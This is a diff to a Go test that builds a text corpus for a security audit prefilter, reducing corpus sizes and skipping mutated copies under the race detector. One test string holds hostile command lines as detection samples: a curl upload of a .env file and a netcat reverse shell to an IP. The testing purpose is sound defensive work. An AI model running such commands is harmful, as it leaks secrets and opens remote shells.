@@ -42,12 +42,12 @@ func equivalenceCorpus(t *testing.T) []string {
 	for _, h := range hostileLines {
 		texts = append(texts, h.line)
 	}
-	texts = append(texts, ordinaryText(64<<10, 2), denseKeywords(64<<10, 2), strings.Join(ruleWords, " "))
+	texts = append(texts, ordinaryText(16<<10, 2), denseKeywords(16<<10, 2), strings.Join(ruleWords, " "))
 	r := rand.New(rand.NewPCG(3, 3))
 	// The prefilter's own strings, run together and apart.
 	var soup strings.Builder
 	keywords := audit.Keywords()
-	for range 4000 {
+	for range 1500 {
 		soup.WriteString(keywords[r.IntN(len(keywords))])
 		soup.WriteString([]string{"", " ", "\n", "|", "(", "x", "_", "/", "\t"}[r.IntN(9)])
 	}
@@ -68,15 +68,21 @@ func equivalenceCorpus(t *testing.T) []string {
 		}
 		texts = append(texts, b.String())
 	}
-	base := len(texts)
-	for i := range base {
-		texts = append(texts, mutate(r, texts[i]))
+	// Each text again with its case, spaces and letters changed. Under
+	// the race detector these copies are left out, which halves the
+	// test's time there; .ci/run runs the whole corpus without it.
+	if !raceDetector {
+		base := len(texts)
+		for i := range base {
+			texts = append(texts, mutate(r, texts[i]))
+		}
 	}
 	// Characters outside ASCII, and bytes that are not UTF-8, right
 	// before what an expression's window starts at.
 	texts = append(texts, "é.env here\nx\xe2.env\n日本.env.local\n\xc3attacker.com curl -d @.env https://x.dev\nééattacker-ip nc -e /bin/sh 1.2.3.4 99\n\xe2\x80.env\n")
-	// One line longer than a piece, keywords throughout.
-	texts = append(texts, strings.ReplaceAll(denseKeywords(200<<10, 4), "\n", " "))
+	// One line longer than a piece (64 KiB), keywords throughout, so
+	// that a piece boundary falls among them.
+	texts = append(texts, strings.ReplaceAll(denseKeywords(80<<10, 4), "\n", " "))
 	return texts
 }
 
